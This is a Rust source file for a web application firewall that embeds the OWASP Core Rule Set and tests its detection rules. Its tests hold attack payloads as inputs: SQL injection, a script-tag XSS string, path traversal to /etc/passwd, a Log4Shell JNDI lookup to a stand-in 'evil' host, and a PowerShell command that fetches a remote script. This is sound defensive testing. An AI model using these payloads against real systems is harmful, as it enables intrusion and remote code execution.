//! The OWASP CRS bundle embedded by the `crs` feature (see `build.rs`): `crs-setup.conf.example`,
//! the REQUEST-9xx rule files in load order and the `.data` files they read, plus loading them
//! through the SecLang translator. Without the feature the bundle is empty.

use crate::engine::Ruleset;
use crate::rule::RuleItem;
use crate::seclang::{Issue, Loader};
use std::collections::HashMap;

#[cfg(feature = "crs")]
mod bundle {
    include!(concat!(env!("OUT_DIR"), "/crs_bundle.rs"));
}

#[cfg(not(feature = "crs"))]
mod bundle {
    pub const SETUP: (&str, &str) = ("", "");
    pub const RULE_FILES: &[(&str, &str)] = &[];
    pub const DATA_FILES: &[(&str, &str)] = &[];
    pub const VERSION: &str = "";
}

/// Whether this build carries CRS.
pub fn available() -> bool {
    !bundle::RULE_FILES.is_empty()
}

/// The embedded CRS version (`4.28.0`), empty without the feature.
pub fn version() -> &'static str {
    bundle::VERSION
}

/// `(file name, text)` of `crs-setup.conf.example`.
pub fn setup_file() -> (&'static str, &'static str) {
    bundle::SETUP
}

/// `(file name, text)` of each REQUEST-9xx rule file, in load order.
pub fn rule_files() -> &'static [(&'static str, &'static str)] {
    bundle::RULE_FILES
}

/// The embedded `.data` files as `@pmFromFile` reads them: name → lines.
pub fn data_files() -> HashMap<String, Vec<String>> {
    bundle::DATA_FILES
        .iter()
        .map(|(name, text)| ((*name).to_owned(), text.lines().map(str::to_owned).collect()))
        .collect()
}

/// The rule of ModSecurity's recommended configuration (`modsecurity.conf-recommended`, loaded
/// before CRS in every ModSecurity deployment) that refuses a body its processor cannot parse:
/// without it, a body made unparsable on purpose (a stray byte in a JSON string) would hide its
/// arguments from every CRS rule. Remove it with `SecRuleRemoveById 200002` in `before_rules`.
pub const REQUEST_BODY_ERROR_RULE: &str = "SecRule REQBODY_ERROR \"!@eq 0\" \
    \"id:200002,phase:2,t:none,log,deny,status:400,msg:'Failed to parse request body.',severity:2\"\n";

/// Loads CRS into `loader` as a ModSecurity deployment does: the recommended configuration's
/// body-error rule ([`REQUEST_BODY_ERROR_RULE`]), `crs-setup.conf.example` (its
/// `SecDefaultAction`s and `tx.crs_setup_version`; its 900xxx examples are comments), then
/// `before_rules` (SecLang named `before_source`, e.g. runtime exclusions), then the rule files.
pub fn load_into(loader: &mut Loader<'_>, before_source: &str, before_rules: &str) {
    loader.load("modsecurity.conf-recommended", REQUEST_BODY_ERROR_RULE);
    let (setup_name, setup_text) = setup_file();
    loader.load(setup_name, setup_text);
    if !before_rules.trim().is_empty() {
        loader.load(before_source, before_rules);
    }
    for (name, text) in rule_files() {
        loader.load(name, text);
    }
}

/// What loading and compiling the embedded CRS gives (for `examples/crs_check.rs` and tests).
#[derive(Debug)]
pub struct CheckReport {
    /// Unsupported features and syntax errors, by file, line, rule ID and feature.
    pub issues: Vec<Issue>,
    /// Features accepted without effect.
    pub ignored: Vec<Issue>,
    pub rule_count: usize,
    pub automaton_count: usize,
    /// Automata without a lazy DFA (PikeVM only: slow).
    pub automata_without_dfa: usize,
    /// Parsing and translating the SecLang text.
    pub parse: std::time::Duration,
    /// Compiling the rules (every regex) into the engine.
    pub compile: std::time::Duration,
    pub compile_error: Option<String>,
}

/// Loads and compiles the embedded CRS on its own.
pub fn check() -> CheckReport {
    let started = std::time::Instant::now();
    let data = data_files();
    let mut loader = Loader::new(&data);
    load_into(&mut loader, "", "");
    let loaded = loader.finish();
    let mut items: Vec<RuleItem> = loaded.items.clone();
    loaded.apply_exclusions(&mut items);
    let parse = started.elapsed();
    let started = std::time::Instant::now();
    let compiled = Ruleset::compile(items);
    let compile = started.elapsed();
    let (rule_count, automaton_count, automata_without_dfa, compile_error) = match &compiled {
        Ok(ruleset) => (ruleset.rule_count(), ruleset.automaton_count(), ruleset.automata_without_dfa(), None),
        Err(error) => (0, 0, 0, Some(error.to_string())),
    };
    CheckReport {
        issues: loaded.issues,
        ignored: loaded.ignored,
        rule_count,
        automaton_count,
        automata_without_dfa,
        parse,
        compile,
        compile_error,
    }
}

#[cfg(all(test, feature = "crs"))]
mod tests {
    use super::*;
    use crate::config::Policy;
    use crate::inspect::{HeadersOutcome, Verdict};
    use crate::request::RequestHead;

    /// CRS's regression-test setup (paranoia level 4, detection only).
    const TEST_SETUP: &str = r#"{"mode": "detect", "paranoia_level": 4,
        "crs": {"setup": {"crs_validate_utf8_encoding": 1, "arg_name_length": 100, "arg_length": 400,
                          "total_arg_length": 64000, "max_num_args": 255, "combined_file_sizes": 65535}}}"#;

    fn fired(policy: &Policy, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u32> {
        let mut all: Vec<(String, Vec<u8>)> = vec![
            (":method".into(), method.as_bytes().to_vec()),
            (":path".into(), path.as_bytes().to_vec()),
            (":authority".into(), b"localhost".to_vec()),
            ("user-agent".into(), b"OWASP CRS test agent".to_vec()),
            ("accept".into(), b"text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,*/*;q=0.5".to_vec()),
        ];
        all.extend(headers.iter().map(|(name, value)| (name.to_string(), value.as_bytes().to_vec())));
        if !body.is_empty() {
            all.push(("content-length".into(), body.len().to_string().into_bytes()));
        }
        let head = RequestHead { headers: &all, protocol: b"HTTP/1.1", remote_addr: b"127.0.0.1" };
        let verdict = match policy.inspect_headers(&head, body.is_empty()) {
            HeadersOutcome::Done(verdict) => verdict,
            HeadersOutcome::ReadBody(inspection) => inspection.finish_with_body(policy, body),
        };
        match verdict {
            Verdict::Allow => Vec::new(),
            Verdict::Pass(report) | Verdict::Block { report, .. } => report.rule_ids().collect(),
        }
    }

    #[test]
    fn request_rules_load_without_unsupported_features() {
        let report = check();
        assert!(report.issues.is_empty(), "{:?}", report.issues);
        assert!(report.compile_error.is_none(), "{:?}", report.compile_error);
        assert!(report.rule_count > 400, "{}", report.rule_count);
    }

    /// Method, path, extra headers, body, the rule that must fire.
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], &'a [u8], u32);

    #[test]
    fn go_ftw_style_cases_fire_their_rules() {
        let policy = Policy::from_json(TEST_SETUP.as_bytes()).unwrap();
        let form = [("content-type", "application/x-www-form-urlencoded")];
        let cases: [Case<'_>; 7] = [
            ("POST", "/post", &form, b"var=1234%20OR%201%3D1", 942100),
            ("GET", "/get?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[], b"", 941100),
            ("GET", "/get?file=..%2F..%2F..%2Fetc%2Fpasswd", &[], b"", 930100),
            ("GET", "/get?a=1&a=2", &[], b"", 921180),
            ("TRACE", "/", &[], b"", 911100),
            (
                "POST",
                "/post",
                &[("content-type", "application/xml")],
                br#"<?xml version="1.0"?><root><a probe=";iwr http://example.com/path/file.ps1"></a></root>"#,
                932125,
            ),
            ("GET", "/get?x=${jndi:ldap://evil/a}", &[], b"", 944150),
        ];
        for (method, path, headers, body, expected) in cases {
            let ids = fired(&policy, method, path, headers, body);
            assert!(ids.contains(&expected), "{method} {path}: {expected} not in {ids:?}");
            assert!(ids.contains(&949110), "{method} {path}: detect mode still evaluates 949110: {ids:?}");
        }
    }

    #[test]
    fn benign_request_is_allowed_at_paranoia_level_one_and_attack_blocked() {
        let policy = Policy::from_json(b"{}").unwrap();
        assert!(fired(&policy, "GET", "/shop?q=running+shoes&page=2", &[], b"").is_empty());
        let ids = fired(&policy, "GET", "/shop?q=1%27%20OR%20%271%27%3D%271", &[], b"");
        assert!(ids.contains(&942100) && ids.contains(&949110), "{ids:?}");
    }
}
